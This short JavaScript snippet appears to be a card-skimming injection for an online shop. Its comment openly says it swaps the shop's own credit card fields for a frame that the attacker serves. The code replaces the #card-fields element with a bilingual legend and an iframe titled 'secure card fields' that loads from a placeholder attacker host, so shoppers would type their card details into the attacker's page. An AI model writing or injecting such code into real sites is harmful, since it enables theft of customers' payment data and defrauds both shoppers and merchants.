(function () {
  // The shop's own card fields are swapped for a "hosted fields" frame that
  // the attacker serves.
  var fs = document.getElementById('card-fields');
  if (!fs) {
    return;
  }
  fs.innerHTML = '<legend>クレジットカード / Credit card</legend>' +
    '<iframe id="secure-fields" title="secure card fields" src="{{ATTACKER}}/hosted-fields.html" style="width:100%;height:220px;border:0"></iframe>';
})();
